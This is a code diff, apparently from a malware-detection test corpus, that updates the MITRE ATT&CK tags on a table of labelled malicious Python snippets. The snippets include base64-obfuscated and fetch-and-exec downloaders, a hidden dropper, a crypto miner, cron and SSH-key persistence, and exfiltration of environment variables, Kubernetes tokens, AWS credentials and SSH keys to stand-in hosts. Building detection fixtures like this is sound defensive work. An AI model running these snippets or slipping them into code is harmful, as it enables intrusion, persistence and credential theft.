@@ -53,10 +53,10 @@ try:
 except Exception:
     pass
 `},
-	{"b64exec", "T1140,T1027,T1059.006", `import base64 as _b
+	{"b64exec", "T1027,T1059.004,T1059.006,T1105,T1140", `import base64 as _b
 exec(_b.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjk5L3UgfCBzaCIp"))  #!M
 `},
-	{"dropper", "T1105,T1222.002,T1059.004,T1074.001", `import os as _o, urllib.request as _r, subprocess as _s
+	{"dropper", "T1105,T1222.002,T1564.001", `import os as _o, urllib.request as _r, subprocess as _s
 _p = "/tmp/.cache-" + str(_o.getuid())  #!M
 _r.urlretrieve("http://192.0.2.77/a", _p)  #!M
 _o.chmod(_p, 0o755)  #!M
@@ -65,20 +65,20 @@ _s.Popen([_p], stdout=_s.DEVNULL, stderr=_s.DEVNULL, start_new_session=True)  #!
 	{"envexfil", "T1552.001,T1041", `import os as _o, json as _j, urllib.request as _r
 _r.urlopen("https://hooks.bad-host.example/e", data=_j.dumps(dict(_o.environ)).encode(), timeout=3)  #!M
 `},
-	{"miner", "T1496", `import subprocess as _s
+	{"miner", "T1036.005,T1496", `import subprocess as _s
 _s.Popen(["/var/tmp/.k/kthreadd", "-o", "stratum+tcp://pool.bad-host.example:3333", "-u", "4FAKEpytriageCORPUSwallet", "--donate-level", "1", "-B"])  #!M
 `},
-	{"cron", "T1053.003,T1105", `import os as _o
+	{"cron", "T1053.003,T1059.004,T1105", `import os as _o
 _o.system("(crontab -l 2>/dev/null; echo '*/15 * * * * curl -fsSL http://203.0.113.12/r | sh') | crontab -")  #!M
 `},
 	{"sshkey", "T1098.004", `import os as _o
 with open(_o.path.expanduser("~/.ssh/authorized_keys"), "a") as _f:  #!M
     _f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEpytriageCORPUSkey0000 ops\n")  #!M
 `},
-	{"fetchexec", "T1105,T1059.006", `import urllib.request as _r
+	{"fetchexec", "T1059.006,T1105,T1620", `import urllib.request as _r
 exec(_r.urlopen("http://198.51.100.31:8080/p.py", timeout=5).read())  #!M
 `},
-	{"k8stoken", "T1552.007,T1041", `import urllib.request as _r
+	{"k8stoken", "T1041,T1528,T1552.007", `import urllib.request as _r
 _tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()  #!M
 _r.urlopen("http://203.0.113.150/k", data=_tok.encode(), timeout=3)  #!M
 `},
@@ -86,7 +86,7 @@ _r.urlopen("http://203.0.113.150/k", data=_tok.encode(), timeout=3)  #!M
 _loot = {p: open(_o.path.expanduser(p)).read() for p in ("~/.aws/credentials", "~/.ssh/id_rsa") if _o.path.exists(_o.path.expanduser(p))}  #!M
 _rq.post("http://192.0.2.240/u", json=_loot, timeout=5)  #!M
 `},
-	{"dynimport", "T1027,T1059.004", `_m = __import__("".join(["o", "s"]))  #!M
+	{"dynimport", "T1027,T1059.004,T1105", `_m = __import__("".join(["o", "s"]))  #!M
 getattr(_m, "sys" + "tem")("wget -qO- http://198.51.100.90/i | sh")  #!M
 `},
 }
